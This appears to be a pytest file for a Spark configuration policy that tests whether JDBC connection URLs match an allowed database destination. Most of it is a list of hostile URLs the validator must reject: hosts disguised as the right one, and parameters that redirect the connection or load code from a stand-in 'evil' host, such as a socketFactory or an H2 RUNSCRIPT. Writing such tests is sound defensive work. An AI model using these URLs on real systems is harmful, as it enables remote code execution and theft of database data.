"""Destinations: one place however it is spelled, and nothing that could be another place."""

from __future__ import annotations

import pytest

from sparkconfig.policy.destinations import jdbc
from sparkconfig.policy.destinations.places import UnclearError, hosts_of, path_of
from sparkconfig.policy.rules.bounds import Destination

SHOP = "jdbc:postgresql://db.shop.example/orders"


@pytest.mark.parametrize(
    ("rule", "url"),
    [
        (SHOP, SHOP),
        (SHOP, "jdbc:postgresql://db.shop.example:5432/orders"),
        (SHOP, "JDBC:PostgreSQL://DB.Shop.Example/orders"),
        (SHOP, "jdbc:postgresql://db.shop.example./orders"),
        (SHOP, "jdbc:postgresql://db.shop.example/orders/"),
        (SHOP, "jdbc:postgresql://db.shop.example/%6Frders"),
        (SHOP, "jdbc:postgresql://db.shop.example/orders?ssl=true&ApplicationName=a%20b"),
        (SHOP, "jdbc:sparkconfig:postgresql://db.shop.example/orders"),
        ("jdbc:postgresql://db.shop.example/*", SHOP),
        ("db.shop.example", SHOP),
        ("db.shop.example:5432", SHOP),
        ("jdbc:postgresql://a,b:5433/orders", "jdbc:postgresql://b:5433,a:5432/orders"),
        ("jdbc:postgresql://a,b:5433/orders", "jdbc:postgresql://a/orders"),
        ("jdbc:postgresql://[::1]/orders", "jdbc:postgresql://[0:0:0:0:0:0:0:1]:5432/orders"),
        ("jdbc:postgresql://10.0.0.1/orders", "jdbc:postgresql://[::ffff:10.0.0.1]/orders"),
        ("jdbc:mysql://db/shop", "jdbc:mysql://DB:3306/shop?useSSL=true"),
        ("jdbc:mariadb://db/shop", "jdbc:mariadb://db/shop"),
        ("jdbc:sqlserver://db;databaseName=shop", "jdbc:sqlserver://DB:1433;encrypt=true;DatabaseName=shop;"),
        ("jdbc:oracle:thin:@//db/shop", "jdbc:oracle:thin:@//db:1521/shop"),
        ("jdbc:oracle:thin:@db:1521:shop", "jdbc:oracle:thin:@DB:1521:shop"),
        ("jdbc:db2://db/shop", "jdbc:db2://db:50000/shop:currentSchema=a;"),
        ("jdbc:snowflake://a.snowflakecomputing.com/*", "jdbc:snowflake://A.snowflakecomputing.com/?db=shop"),
        ("jdbc:redshift://db/shop", "jdbc:redshift://db:5439/shop"),
    ],
)
def test_other_spellings_are_the_same_place(rule, url):
    assert Destination.of(rule).holds(jdbc.place_of(url))


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://evil/orders",
        "jdbc:postgresql://db.shop.example:5433/orders",
        "jdbc:postgresql://db.shop.example/orders2",
        "jdbc:postgresql://db.shop.example/Orders",
        "jdbc:postgresql://db.shop.example/",
        "jdbc:postgresql://db.shop.example/orders/x",
        "jdbc:postgresql://db.shop.example,evil/orders",
        "jdbc:postgresql://db.shop.example.evil/orders",
        "jdbc:mysql://db.shop.example:5432/orders",
        "jdbc:redshift://db.shop.example:5432/orders",
    ],
)
def test_other_places(url):
    assert not Destination.of(SHOP).holds(jdbc.place_of(url))


@pytest.mark.parametrize(
    "url",
    [
        # User info, and hosts that only look like the right one.
        "jdbc:postgresql://db.shop.example@evil/orders",
        "jdbc:postgresql://db.shop.example\\@evil/orders",
        "jdbc:postgresql://db.shop.example%2F@evil/orders",
        "jdbc:postgresql://db.shop.example%00.evil/orders",
        "jdbc:postgresql://db.shop.example .evil/orders",
        "jdbc:postgresql://db.shop.example\t/orders",
        "jdbc:postgresql://db。shop。example/orders",
        "jdbc:postgresql://db.shop.ex\u0430mple/orders",
        "jdbc:postgresql://db..shop/orders",
        "jdbc:postgresql://-db/orders",
        # Numbers.
        "jdbc:postgresql://2130706433/orders",
        "jdbc:postgresql://0x7f.1/orders",
        "jdbc:postgresql://127.1/orders",
        "jdbc:postgresql://[::1%25eth0]/orders",
        "jdbc:postgresql://[::1/orders",
        "jdbc:postgresql://::1/orders",
        # Ports.
        "jdbc:postgresql://db:/orders",
        "jdbc:postgresql://db:0/orders",
        "jdbc:postgresql://db:99999/orders",
        "jdbc:postgresql://db:+5432/orders",
        "jdbc:postgresql://db:٥٤٣٢/orders",
        "jdbc:postgresql://db:5432:1/orders",
        # No host, or another grammar.
        "jdbc:postgresql:orders",
        "jdbc:postgresql:///orders",
        "jdbc:postgresql://,db/orders",
        "jdbc:postgresql://(host=evil)/orders",
        "jdbc:mysql:loadbalance://db/shop",
        "jdbc:mysql://address=(host=evil)(port=3306)/shop",
        "jdbc:mysql://(host=evil,port=3306)/shop",
        "jdbc:mysql+srv://db/shop",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)))",
        "jdbc:oracle:thin:@alias",
        "jdbc:oracle:oci:@//db/shop",
        "jdbc:oracle:thin:scott/tiger@//evil/shop",
        "jdbc:oracle:thin:@ldap://evil/cn",
        "jdbc:sqlserver://db\\other;databaseName=shop",
        "jdbc:sqlserver://;serverName=evil",
        # Paths.
        "jdbc:postgresql://db/..",
        "jdbc:postgresql://db/a%2Fb",
        "jdbc:postgresql://db//a",
        "jdbc:postgresql://db/a%ff",
        "jdbc:postgresql://db/orders#x",
        # Parameters that lead elsewhere, or load code.
        "jdbc:postgresql://db/orders?socketFactory=org.springframework.Ctx&socketFactoryArg=http://evil",
        "jdbc:postgresql://db/orders?PGHOST=evil",
        "jdbc:postgresql://db/orders?%73ocketFactory=x",
        "jdbc:mysql://db/shop?autoDeserialize=true",
        "jdbc:mysql://db/shop?socksProxyHost=evil",
        "jdbc:mariadb://db/shop?credentialType=x",
        "jdbc:sqlserver://db;serverName=evil",
        "jdbc:sqlserver://db;databaseName=a;database=b",
        "jdbc:sqlserver://db;applicationName={a;serverName=evil}",
        "jdbc:db2://db/shop:clientRerouteServerListJNDIName=x;",
        "jdbc:snowflake://a.snowflakecomputing.com/?authenticator=https://evil",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
        "jdbc:derby:memory:x",
        "jdbc:postgresql://${vault:own:host}/orders",
        "jdbc:postgresql://db/orders?password=$[env:x]",
        "postgresql://db/orders",
        "",
    ],
)
def test_what_is_not_certain_is_unclear(url):
    with pytest.raises(UnclearError) as error:
        jdbc.place_of(url)
    assert "evil" not in str(error.value)


def test_properties_and_the_driver_count_as_the_url_does():
    jdbc.place_of(SHOP, ["user", "password", "sslmode"], "org.postgresql.Driver")
    for properties, driver in (
        (["socketFactory"], None),
        (["PGHOST"], None),
        (["user"], "org.h2.Driver"),
        (["user"], "com.mysql.cj.jdbc.Driver"),
    ):
        with pytest.raises(UnclearError):
            jdbc.place_of(SHOP, properties, driver)


@pytest.mark.parametrize("text", ["a:1,b:2", "A:1,b:2", "a.:1,b:2"])
def test_hosts(text):
    assert hosts_of(text, None) == (("a", 1), ("b", 2))


@pytest.mark.parametrize("text", ["/a/../b", "/a//b", "a/%2e%2e/b", "/./a", "/a;b", "/a@b", "//"])
def test_paths_that_may_be_read_in_more_than_one_way(text):
    with pytest.raises(UnclearError):
        path_of(text)


def test_ten_thousand_hosts_stay_linear():
    assert len(hosts_of(",".join(f"h{n}:1" for n in range(10_000)), None)) == 10_000


@pytest.mark.parametrize(
    "url", [f"{SHOP}?user=a&password=first&hunter2Zx", "jdbc:sqlserver://db;password=a;hunter2Zx=1"]
)
def test_the_rest_of_a_password_in_clear_is_not_shown(url: str) -> None:
    """Behind its "&" or ";" it looks like the name of a parameter."""
    with pytest.raises(UnclearError, match="a parameter of its URL could lead elsewhere") as error:
        jdbc.place_of(url)
    assert "hunter2Zx" not in str(error.value)


def test_a_parameter_that_loads_code_is_named() -> None:
    with pytest.raises(UnclearError, match="its URL's parameter 'socketFactory' could"):
        jdbc.place_of(f"{SHOP}?socketFactory=a.B")
